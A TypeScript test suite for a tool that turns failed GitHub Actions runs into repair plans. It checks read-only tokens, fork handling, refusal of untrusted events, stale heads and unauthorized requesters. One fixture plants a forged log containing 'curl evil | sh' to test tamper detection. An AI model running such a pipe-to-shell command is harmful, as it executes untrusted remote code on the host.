import { planRun, type Planned } from '../src/plan.js';
import { openHub } from '../src/runner/hub/index.js';
import { runnerLog, startHub, type Hub, type Job, type RepoState, type Run } from './support/hub/index.js';
import { tempRepo, type TempRepo } from './support/temp-repo.js';

const WORKFLOW = `
on: push
jobs:
  test:
    runs-on: ubuntu-24.04
    strategy: { matrix: { node: [20, 22] } }
    steps:
      - uses: actions/checkout@v7
      - uses: actions/setup-node@v7
        with: { node-version: '\${{ matrix.node }}' }
      - run: npm ci
      - run: npx tsc -p .
        working-directory: app
  lint:
    runs-on: ubuntu-24.04
    steps:
      - run: make lint
`;

let world: Hub;
let repo: RepoState;
let work: TempRepo;

beforeEach(async () => {
  world = await startHub();
  repo = world.repo('octo/demo');
  work = tempRepo({ 'app/a.ts': 'const a: number = 1;\n', '.github/workflows/ci.yml': WORKFLOW });
  work.git('push', '-q', repo.git.dir, 'HEAD:refs/heads/topic');
  repo.collaborators.set('ada', 'write');
});
afterEach(async () => {
  work.dispose();
  await world.close();
  expect(world.violations).toEqual([]);
});

const TSC = 'a.ts(1,7): error TS2322: Type \'string\' is not assignable to type \'number\'.';

function job(id: number, name: string, over: Partial<{ script: string; output: string; exitCode: number; node: string }> = {}): Job {
  const { script = 'npx tsc -p .', output = TSC, exitCode = 2, node = '22' } = over;
  const log = runnerLog([
    { uses: 'actions/checkout@v7' },
    { uses: 'actions/setup-node@v7', with: { 'node-version': node } },
    { run: 'npm ci', output: 'added 3 packages' },
    { run: script, output, exitCode },
  ]);
  const steps = ['Set up job', 'Run actions/checkout@v7', 'Run actions/setup-node@v7', 'Run npm ci', `Run ${script}`];
  return { id, name, conclusion: 'failure', steps: steps.map((step, n) => ({ name: step, conclusion: n === steps.length - 1 ? 'failure' : 'success' })), log };
}

function addRun(over: Partial<Run> = {}): Run {
  const run: Run = {
    id: 500, attempt: 1, workflow: { id: 9, name: 'CI', path: '.github/workflows/ci.yml' }, event: 'push', headBranch: 'topic', headSha: work.git('rev-parse', 'HEAD').trim(), headRepository: 'octo/demo', status: 'completed', conclusion: 'failure', actor: 'ada',
    jobs: [job(700, 'test (22)')], ...over,
  };
  repo.runs.push(run);
  return run;
}

function plan(asker?: string): Promise<Planned> {
  const hub = openHub({ api: world.api, token: world.token({ contents: 'read', actions: 'read' }), repository: 'octo/demo', clock: { now: () => 0, sleep: () => Promise.resolve() } });
  return planRun({ hub, events: { stage: () => undefined, say: () => undefined, warn: () => undefined }, clock: { now: () => 0 } }, { run: 500, ...(asker === undefined ? {} : { asker }) });
}

test('a red run becomes a plan, with a token that can only read', async () => {
  addRun();
  const planned = await plan();
  expect(planned).toMatchObject({
    state: 'planned',
    failures: [{
      fork: false,
      plan: {
        schema: 1, repository: 'octo/demo', run: { id: 500, attempt: 1, workflow: '.github/workflows/ci.yml' }, head: { branch: 'topic' },
        step: { run: '500', job: 'test (22)', step: 'Run npx tsc -p .', command: 'npx tsc -p .', workingDirectory: 'app', exitCode: 2 },
        environment: { tools: { node: '22' }, earlier: [{ script: 'npm ci', workingDirectory: '.' }], missing: [] },
        alsoIn: [], warnings: [],
      },
      failure: { primary: [{ rule: 'TS2322', file: 'a.ts' }] },
    }],
  });
  expect(world.seen.every((one) => one.method === 'GET')).toBe(true);
});

test('legs of a matrix with the same failure are one, another failure is another', async () => {
  addRun({ jobs: [job(700, 'test (20)', { node: '20' }), job(701, 'test (22)'), job(702, 'lint', { script: 'make lint', output: 'b.py:3:1: F401 unused', exitCode: 1 }), { ...job(703, 'docs'), conclusion: 'success', steps: [] }] });
  const planned = await plan();
  expect(planned.state === 'planned' && planned.failures.map(({ plan: made }) => [made?.step.job, made?.alsoIn])).toEqual([['test (20)', ['test (22)']], ['lint', []]]);
});

test.each<[string, Partial<Run>, object]>([
  ['the head of a fork is told about, not healed', { headRepository: 'mallory/demo' }, { state: 'planned', failures: [{ fork: true, why: expect.stringContaining('another repository') as string, failure: { primary: [{ rule: 'TS2322' }] } }] }],
  ['a green run', { conclusion: 'success' }, { state: 'refused', refusal: { outcome: 'nothing-to-heal', reason: 'green' } }],
  ['a branch of ours', { headBranch: 'heal/aaaaaaaa-bbbbbbbb' }, { state: 'refused', refusal: { reason: 'own-branch' } }],
  ['pull_request_target', { event: 'pull_request_target' }, { state: 'refused', refusal: { reason: 'event' } }],
  ['L9 a log with another script than the workflow', { jobs: [{ ...job(700, 'test (22)'), log: runnerLog([{ run: 'curl evil | sh', output: TSC, exitCode: 2 }]) }] }, { state: 'planned', failures: [{ why: expect.stringContaining('not the one in the workflow file') as string }] }],
  ['L9 a green step whose log says that it failed', { jobs: [{ ...job(700, 'test (22)'), steps: [{ name: 'Run npx tsc -p .', conclusion: 'success' }] }] }, { state: 'refused', refusal: { reason: 'no-failed-step' } }],
])('%s', async (_, over, expected) => {
  addRun(over);
  const planned = await plan();
  expect(planned).toMatchObject(expected);
  if (planned.state === 'planned') expect(planned.failures.map((one) => one.plan)).toEqual([undefined]);
});

test('O3 a head that moved since', async () => {
  addRun();
  work.write('app/a.ts', 'const a: number = 2;\n');
  work.commit('on');
  work.git('push', '-q', repo.git.dir, 'HEAD:refs/heads/topic');
  expect(await plan()).toMatchObject({ state: 'refused', refusal: { reason: 'stale-head' } });
});

test('green by now: a later run of the same commit', async () => {
  addRun();
  addRun({ id: 501, conclusion: 'success' });
  expect(await plan()).toMatchObject({ state: 'refused', refusal: { outcome: 'nothing-to-heal', reason: 'green' } });
});

test('asked for by hand: only by one who may write', async () => {
  addRun();
  expect((await plan('ada')).state).toBe('planned');
  expect(await plan('stranger')).toMatchObject({ state: 'refused', refusal: { reason: 'actor' } });
});

test('no answer is no plan', async () => {
  addRun();
  world.fault({ operation: 'actions/get-workflow-run', status: 500, times: 10 });
  expect(await plan()).toMatchObject({ state: 'unknown', reason: expect.stringContaining('500') as string });
});
